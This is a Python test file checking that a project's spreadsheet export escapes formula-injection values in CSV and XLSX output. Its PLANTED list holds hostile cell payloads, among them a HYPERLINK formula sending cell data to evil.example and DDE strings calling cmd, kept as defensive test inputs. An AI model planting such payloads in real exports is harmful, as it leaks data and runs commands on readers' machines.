"""Formula injection (docs/security.md): the one function every export writes through."""

import csv
import io

from openpyxl import load_workbook

from cpims.spreadsheets import csv_bytes, spreadsheet_cell, xlsx_bytes

PLANTED = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def test_every_formula_prefix_is_neutralised_and_other_values_kept():
    for value in PLANTED:
        assert spreadsheet_cell(value) == "'" + value
    for value in ["Akinyi", "", "<5", "0712 345678", 5, -5, None, 2.5]:
        assert spreadsheet_cell(value) == value


def test_csv_and_xlsx_write_no_formula():
    rows = [PLANTED, ["plain", 3, -4]]
    read = list(csv.reader(io.StringIO(csv_bytes(rows).decode(), newline="")))
    assert read[0] == ["'" + value for value in PLANTED]
    assert read[1] == ["plain", "3", "-4"]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(rows, title="a/b:c[1]"))).active
    cells = list(sheet.iter_rows())
    assert all(cell.data_type != "f" for row in cells for cell in row)
    # XML stores a carriage return as a line feed; the quote is still first
    assert [cell.value for cell in cells[0]] == ["'" + v.replace("\r", "\n") for v in PLANTED]
    assert [cell.value for cell in cells[1]][:3] == ["plain", 3, -4]  # numbers stay numbers
